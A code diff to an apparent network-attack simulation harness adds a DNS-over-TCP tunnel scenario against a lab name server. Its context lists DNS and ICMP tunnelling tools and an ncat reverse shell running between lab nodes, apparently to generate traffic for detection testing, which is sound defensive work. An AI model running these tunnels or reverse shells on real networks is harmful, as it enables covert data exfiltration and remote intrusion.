@@ -216,6 +216,21 @@ def _dns2tcp(node: Node, work: Path) -> None:
         _stop(client, server, echo)
 
 
+def _dns_over_tcp(node: Node, work: Path) -> None:
+    """dnsmasq as the attacker's name server for its zone (every name local: answered NXDOMAIN), and
+    tunnel-shaped TXT questions to it over one TCP connection, as a tunnel picking TCP sends them."""
+    node.add_address("ns", TUNNEL_NS_IP)
+    server = node.start("ns", "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
+                        f"--listen-address={TUNNEL_NS_IP}", "--bind-interfaces", "--port=53", "--user=root",
+                        f"--pid-file={work / 'dnsmasq.pid'}", "--local=/tcp.tunnel-lab.example/", **QUIET)
+    try:
+        time.sleep(1.0)
+        node.run("victim", *TOOL, "dns-tunnel", TUNNEL_NS_IP, "tcp.tunnel-lab.example", "dnscat2", "30", "0.05",
+                 "--tcp", check=True, capture_output=True, timeout=60)
+    finally:
+        _stop(server)
+
+
 def _ptunnel(node: Node, work: Path) -> None:
     """ptunnel-ng's client in the victim, its proxy on a relay outside; the relay's kernel stops answering
     pings so that the proxy's own replies carry the data back."""
@@ -365,6 +380,8 @@ SCENARIOS = (
              "dns_tunneling", "victim", ("victim", "ns"), _iodine, ("/usr/sbin/iodine", "/usr/sbin/iodined", "socat")),
     Scenario("dns2tcp DNS tunnel", "dns2tcpc to dns2tcpd (TXT queries), 6 echoed 4 kB writes through it",
              "dns_tunneling", "victim", ("victim", "ns"), _dns2tcp, ("dns2tcpc", "dns2tcpd", "socat")),
+    Scenario("DNS tunnel over TCP", "30 dnscat2-shaped TXT questions over one TCP connection to dnsmasq, the zone's "
+             "name server", "dns_tunneling", "victim", ("victim", "ns"), _dns_over_tcp, ("/usr/sbin/dnsmasq",)),
     Scenario("ptunnel-ng ICMP tunnel", "ptunnel-ng client to its proxy over ICMP echo, 10 echoed 4 kB writes",
              "icmp_tunneling", "victim", ("victim", "relay"), _ptunnel, ("ptunnel-ng", "socat")),
     Scenario("ncat reverse shell", "ncat -e /bin/sh from the web pod to ncat -l on 4444; 10 commands typed as lines",
